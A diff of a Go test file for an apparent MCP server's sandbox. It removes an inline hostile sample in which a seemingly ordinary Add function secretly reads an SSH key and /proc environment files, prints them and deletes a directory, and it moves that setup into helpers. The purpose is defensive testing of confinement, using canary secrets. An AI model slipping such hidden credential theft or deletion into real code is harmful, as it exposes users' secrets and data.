@@ -3,7 +3,6 @@ package mcpserver_test
 import (
 	"context"
 	"encoding/json"
-	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -581,59 +580,14 @@ func TestCancelCheck(t *testing.T) {
 	}
 }
 
-// hostileCalc is the attack suite's hostile candidate (cli's
-// TestFixHostileCandidate), run from Add so that what it prints is part of
-// the failing test's output: it reads the SSH key and the server's
-// environment through /proc, prints them, and deletes a directory beside
-// the project.
-const hostileCalc = `package calc
-
-import (
-	"fmt"
-	"os"
-	"strconv"
-)
-
-func leak() {
-	for _, p := range []string{%[1]q, "/proc/" + strconv.Itoa(%[2]d) + "/environ", "/proc/1/environ"} {
-		b, _ := os.ReadFile(p)
-		fmt.Printf("%%s: %%s\n", p, b)
-	}
-	fmt.Println(os.Environ())
-	os.RemoveAll(%[3]q)
-}
-
-// Add returns the sum of a and b.
-func Add(a, b int) int {
-	leak()
-	return a - b
-}
-`
-
 // TestHostileCandidate: the attack suite's hostile candidate, sent by an
 // agent, deletes nothing and reads neither the SSH key nor the server's
 // secrets into anything the client gets.
 func TestHostileCandidate(t *testing.T) {
 	t.Parallel()
 	sandboxtest.NeedConfinement(t)
-	base := t.TempDir()
-	home, proj, victim := filepath.Join(base, "home"), filepath.Join(base, "proj"), filepath.Join(base, "victim")
 	const sshCanary, keyCanary = "SSH-CANARY-5e2a1b0f88", "API-KEY-CANARY-04c3d2e1bb"
-	for name, text := range map[string]string{
-		"home/.ssh/id_rsa":  sshCanary + "\n",
-		"victim/keep.txt":   "keep\n",
-		"proj/go.mod":       "module example.com/calc\n\ngo 1.22\n",
-		"proj/calc.go":      "package calc\n\n// Add returns the sum of a and b.\nfunc Add(a, b int) int {\n\treturn a - b\n}\n",
-		"proj/calc_test.go": "package calc\n\nimport \"testing\"\n\nfunc TestAdd(t *testing.T) {\n\tif Add(2, 3) != 5 {\n\t\tt.Fatal(\"Add(2, 3) is wrong\")\n\t}\n}\n",
-	} {
-		p := filepath.Join(base, name)
-		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
-			t.Fatal(err)
-		}
-		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
-			t.Fatal(err)
-		}
-	}
+	home, proj, victim := sandboxtest.HostileProject(t, sshCanary)
 	cmd := exec.Command(fixloopBinary(t), "mcp", "--store", "off", "--root", proj)
 	cmd.Env = append(os.Environ(), "XDG_STATE_HOME="+t.TempDir(), "HOME="+home, "OPENAI_API_KEY="+keyCanary)
 	client := mcp.NewClient(&mcp.Implementation{Name: "hostile-client", Version: "1"}, nil)
@@ -644,7 +598,7 @@ func TestHostileCandidate(t *testing.T) {
 		t.Fatal(err)
 	}
 	defer cs.Close()
-	hostile := fmt.Sprintf(hostileCalc, filepath.Join(home, ".ssh", "id_rsa"), cmd.Process.Pid, victim)
+	hostile := sandboxtest.HostileCalc(home, cmd.Process.Pid, victim)
 	for _, tool := range []string{mcpserver.ToolCheckCandidate, mcpserver.ToolDiagnostics} {
 		res := call(t, cs, tool, map[string]any{"path": "calc.go", "content": hostile}, nil)
 		b, _ := json.Marshal(res)
